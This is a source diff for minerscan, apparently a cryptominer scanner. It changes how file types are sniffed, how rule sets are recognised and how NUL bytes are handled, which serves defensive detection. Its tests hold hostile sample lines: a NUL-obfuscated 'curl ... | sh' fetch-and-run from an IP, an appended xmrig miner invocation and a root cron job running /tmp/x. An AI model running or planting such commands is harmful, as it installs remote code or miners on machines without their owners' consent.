@@ -3,6 +3,7 @@
 //! first use, so that a file no analyzer asks about costs nothing more.
 
 use crate::indicators::{Hit, Indicators, NeedleHit, Scan};
+use crate::quoting::{Markup, Quotes, Quoting};
 use crate::target::Target;
 use md5::Md5;
 use sha1::Sha1;
@@ -43,8 +44,6 @@ pub enum FileKind {
     Xml,
     /// YARA, Sigma, Snort or Suricata rules: full of indicators, never a miner.
     Rules,
-    /// A report written by minerscan itself: full of matched strings, never a miner.
-    MinerscanReport,
     /// Other text.
     Text,
     /// Other binary data.
@@ -77,12 +76,7 @@ impl FileKind {
         self.is_script()
             || matches!(
                 self,
-                FileKind::Html
-                    | FileKind::Json
-                    | FileKind::Xml
-                    | FileKind::Rules
-                    | FileKind::Text
-                    | FileKind::MinerscanReport
+                FileKind::Html | FileKind::Json | FileKind::Xml | FileKind::Rules | FileKind::Text
             )
     }
 
@@ -125,7 +119,6 @@ impl FileKind {
             FileKind::Json => "json",
             FileKind::Xml => "xml",
             FileKind::Rules => "rules",
-            FileKind::MinerscanReport => "minerscan_report",
             FileKind::Text => "text",
             FileKind::Data => "data",
         }
@@ -197,7 +190,11 @@ pub fn sniff(bytes: &[u8], name: &str) -> FileKind {
     if let Some(decoded) = utf16le_text(head) {
         return sniff_text(decoded.as_bytes(), name);
     }
-    if !looks_like_text(head) {
+    // A script names its interpreter on its first line, and the interpreter runs it whatever
+    // bytes follow (shells drop NULs): its structure, not the mix of its bytes, makes it one.
+    let first_line = &head[..memchr::memchr(b'\n', head).unwrap_or(head.len())];
+    let shebang = head.starts_with(b"#!") && !first_line.contains(&0);
+    if !shebang && !looks_like_text(head) {
         return FileKind::Data;
     }
     sniff_text(head, name)
@@ -241,9 +238,6 @@ fn sniff_text(head: &[u8], name: &str) -> FileKind {
         }
     }
     let ext = lower_name.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
-    if is_own_report(head) {
-        return FileKind::MinerscanReport;
-    }
     let by_ext = match ext {
         "sh" | "bash" | "zsh" | "ksh" => Some(FileKind::Shell),
         "ps1" | "psm1" | "psd1" => Some(FileKind::PowerShell),
@@ -255,7 +249,6 @@ fn sniff_text(head: &[u8], name: &str) -> FileKind {
         "html" | "htm" | "xhtml" | "php" => Some(FileKind::Html),
         "json" | "jsonc" => Some(FileKind::Json),
         "xml" => Some(FileKind::Xml),
-        "yar" | "yara" | "rules" => Some(FileKind::Rules),
         _ => None,
     };
     if let Some(kind) = by_ext {
@@ -279,52 +272,27 @@ fn sniff_text(head: &[u8], name: &str) -> FileKind {
     if lower.starts_with("@echo off") {
         return FileKind::Batch;
     }
-    if is_rule_text(&lower) {
-        return FileKind::Rules;
-    }
+    // A rule set is recognised from the whole file's structure (`quoting`), never from a name
+    // or a line: see `FileContext::new`.
     FileKind::Text
 }
 
-/// minerscan's own reports (JSON, NDJSON, text), met again in a later scan.
-fn is_own_report(head: &[u8]) -> bool {
-    let text = String::from_utf8_lossy(head);
-    if text.starts_with("{\"tool\":{\"name\":\"minerscan\"") {
-        return true;
-    }
-    let first = text.lines().next().unwrap_or("");
-    if first.starts_with('{') && first.contains("\"module\":\"minerscan\"") {
-        return true;
-    }
-    let mut lines = text.lines();
-    let label = lines.next().unwrap_or("");
-    let next = lines.next().unwrap_or("");
-    ["MALICIOUS  ", "SUSPICIOUS ", "clean      "]
-        .iter()
-        .any(|l| label.starts_with(l))
-        && label.ends_with(']')
-        && (next.starts_with("    sha256 ") || next.starts_with("    why: "))
-}
-
-/// YARA rule files and IDS rule files quote indicators by design.
-fn is_rule_text(lower: &str) -> bool {
-    (lower.contains("rule ") && lower.contains("condition:"))
-        || (lower.contains("alert tcp") && lower.contains("content:"))
-        || (lower.contains("detection:") && lower.contains("logsource:"))
-}
-
-/// Text if there is no NUL (or it is UTF-16LE with a BOM) and most bytes are printable.
+/// Text if it is UTF-16 with a BOM, or most of its bytes other than NULs are printable and NULs
+/// are stray (at most one byte in four): one NUL near the start does not make a script data.
 pub fn looks_like_text(head: &[u8]) -> bool {
     if head.starts_with(b"\xff\xfe") || head.starts_with(b"\xfe\xff") {
         return true;
     }
-    if memchr::memchr(0, head).is_some() {
+    let nuls = memchr::memchr_iter(0, head).count();
+    let rest = head.len() - nuls;
+    if rest == 0 || nuls * 4 > head.len() {
         return false;
     }
     let printable = head
         .iter()
         .filter(|&&b| b >= 0x20 || b == b'\n' || b == b'\r' || b == b'\t' || b == 0x0c || b == 0x1b)
         .count();
-    printable * 100 >= head.len() * 95
+    printable * 100 >= rest * 95
 }
 
 /// The digests of one file, hex-encoded. Each is `None` when nothing asked for it.
@@ -451,6 +419,10 @@ pub struct FileContext<'a> {
     sha256: OnceCell<Option<[u8; 32]>>,
     text: OnceCell<Option<String>>,
     scan: OnceCell<Scan>,
+    /// How the text quotes what it mentions (`quoting`), and where its lines end in `bytes`.
+    data_quotes: OnceCell<Option<Quotes>>,
+    doc_quotes: OnceCell<Option<Quotes>>,
+    line_ends: OnceCell<Vec<usize>>,
 }
 
 /// Most indicator hits kept per file.
@@ -465,7 +437,7 @@ impl<'a> FileContext<'a> {
         truncated: bool,
     ) -> FileContext<'a> {
         let kind = sniff(bytes, target.file_name());
-        FileContext {
+        let mut ctx = FileContext {
             target,
             indicators,
             bytes,
@@ -478,7 +450,71 @@ impl<'a> FileContext<'a> {
             sha256: OnceCell::new(),
             text: OnceCell::new(),
             scan: OnceCell::new(),
+            data_quotes: OnceCell::new(),
+            doc_quotes: OnceCell::new(),
+            line_ends: OnceCell::new(),
+        };
+        // A rule set is a kind of its own, but only as a whole file: the head only decides
+        // whether to look.
+        if kind == FileKind::Text
+            && !truncated
+            && crate::quoting::may_be_rules(&String::from_utf8_lossy(
+                &bytes[..bytes.len().min(SNIFF_LEN)],
+            ))
+            && ctx.data_quotes().is_some_and(|q| q.what == Quoting::Rules)
+        {
+            ctx.kind = FileKind::Rules;
         }
+        ctx
+    }
+
+    /// How the text quotes what it mentions (a rule set's literals, a list's entries, a
+    /// document's examples); `None` for most files, and for views that are not whole.
+    pub fn quotes(&self) -> Option<&Quotes> {
+        self.data_quotes().or_else(|| {
+            self.doc_quotes
+                .get_or_init(|| crate::quoting::document(self.text()?, self.markup()?))
+                .as_ref()
+        })
+    }
+
+    /// What a rule set or a list quotes as data: all that miner facts need, and much cheaper to
+    /// work out than a document's examples.
+    fn data_quotes(&self) -> Option<&Quotes> {
+        self.data_quotes
+            .get_or_init(|| crate::quoting::data(self.text()?, self.markup()?))
+            .as_ref()
+    }
+
+    /// The kind of markup a text may quote in; scripts and JSON never quote (every line of
+    /// them is code or configuration), nor do views that are not whole.
+    fn markup(&self) -> Option<Markup> {
+        if self.truncated {
+            return None;
+        }
+        match self.kind {
+            FileKind::Text | FileKind::Rules => Some(Markup::Plain),
+            FileKind::Html => Some(Markup::Html),
+            FileKind::Xml => Some(Markup::Xml),
+            _ => None,
+        }
+    }
+
+    /// How line `line` (1-based, of `text()`) is quoted, if it is.
+    pub fn quoted_line(&self, line: usize) -> Option<Quoting> {
+        self.quotes().filter(|q| q.quoted(line)).map(|q| q.what)
+    }
+
+    /// Whether the miner facts at byte `offset` of `bytes` are quoted data (in a rule set's
+    /// literal or a list's entry): then they are information, not a miner.
+    pub fn fact_quoted_at(&self, offset: usize) -> bool {
+        let Some(q) = self.data_quotes() else {
+            return false;
+        };
+        let ends = self
+            .line_ends
+            .get_or_init(|| memchr::memchr_iter(b'\n', self.bytes).collect());
+        q.quoted(ends.partition_point(|&e| e < offset) + 1)
     }
 
     /// The shared indicator matcher's hits over the whole buffer (ASCII, case-insensitive),
@@ -576,11 +612,27 @@ pub fn decode_text(bytes: &[u8], kind: FileKind) -> Option<String> {
         return Some(text);
     }
     let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
-    // 8-bit text ends at its first NUL: what follows is a payload (a self-extracting installer,
-    // a script with an archive appended), which the byte-level analyzers and YARA still see
-    // whole, and which decoded as text cost more than the rest of a scan of the file.
-    let bytes = memchr::memchr(0, bytes).map_or(bytes, |nul| &bytes[..nul]);
-    Some(String::from_utf8_lossy(bytes).into_owned())
+    Some(lossy_without_nuls(bytes))
+}
+
+/// 8-bit text as the analyzers read it: the whole file, NULs dropped (shells drop them too, so
+/// `cu\0rl` runs curl, and a stray NUL must neither end the text nor split a word), and each
+/// invalid UTF-8 sequence one `?`, so that a binary payload after a script (a self-extracting
+/// installer) costs no more than its own size.
+fn lossy_without_nuls(bytes: &[u8]) -> String {
+    let mut out = String::with_capacity(bytes.len());
+    for chunk in bytes.utf8_chunks() {
+        let valid = chunk.valid();
+        if valid.contains('\0') {
+            out.extend(valid.chars().filter(|&c| c != '\0'));
+        } else {
+            out.push_str(valid);
+        }
+        if !chunk.invalid().is_empty() {
+            out.push('?');
+        }
+    }
+    out
 }
 
 fn decode_utf16(bytes: &[u8], word: fn([u8; 2]) -> u16) -> String {
@@ -619,19 +671,38 @@ mod tests {
             sniff(b"Proof of Space Plot\0\0", "x.plot"),
             FileKind::ChiaPlot
         );
-        assert_eq!(
-            sniff(b"rule a { strings: $a = \"x\" condition: $a }", "a.txt"),
-            FileKind::Rules
-        );
+        // A rule set is one by its whole structure, whatever its name; one line is not enough.
+        let target = Target::for_bytes("a.txt");
+        let rules = b"rule a { strings: $a = \"x\" condition: $a }";
+        let ctx = FileContext::new(&target, Indicators::builtin(), rules, 44, false);
+        assert_eq!(ctx.kind, FileKind::Rules);
+        let cron = b"# rule x condition:\n* * * * * root /tmp/x\n";
+        let ctx = FileContext::new(&target, Indicators::builtin(), cron, 40, false);
+        assert_eq!(ctx.kind, FileKind::Text);
+        assert_eq!(sniff(rules, "x.yar"), FileKind::Text);
     }
 
     #[test]
-    fn text_stops_at_a_binary_payload() {
-        let mut data = b"#!/bin/sh\ntail -n +4 \"$0\" | tar xz\nexit 0\n".to_vec();
-        data.extend_from_slice(b"\x1f\x8b\x08\0\0\0\0\0xmrig --donate-level 1");
+    fn nuls_neither_end_nor_hide_text() {
+        // One NUL near the start: still a script, read whole, the NUL dropped as a shell does.
+        let script = b"#!/bin/sh\n\0cu\0rl -s http://203.0.113.5/x | sh\n";
+        assert_eq!(sniff(script, "run"), FileKind::Shell);
+        assert_eq!(sniff(&script[10..], "run.txt"), FileKind::Text);
+        let text = decode_text(script, FileKind::Shell).unwrap();
+        assert!(
+            text.contains("curl -s http://203.0.113.5/x | sh"),
+            "{text:?}"
+        );
+        // Text after a binary payload is read too; each invalid sequence is one `?`.
+        let mut data = b"#!/bin/sh\ntail -n +4 \"$0\" | tar xz\n".to_vec();
+        data.extend_from_slice(b"\x1f\x8b\x08\0\0\0\xff\xfe\0\0\nxmrig --donate-level 1\n");
         let text = decode_text(&data, FileKind::Shell).unwrap();
-        assert!(text.ends_with("exit 0\n\x1f\u{fffd}\x08"), "{text:?}");
-        assert!(!text.contains("xmrig"));
+        assert!(
+            text.ends_with("\x1f?\x08??\nxmrig --donate-level 1\n"),
+            "{text:?}"
+        );
+        // Mostly NULs without a shebang is still binary data.
+        assert_eq!(sniff(b"ab\0\0\0\0\0\0cd\0\0", "x"), FileKind::Data);
     }
 
     #[test]
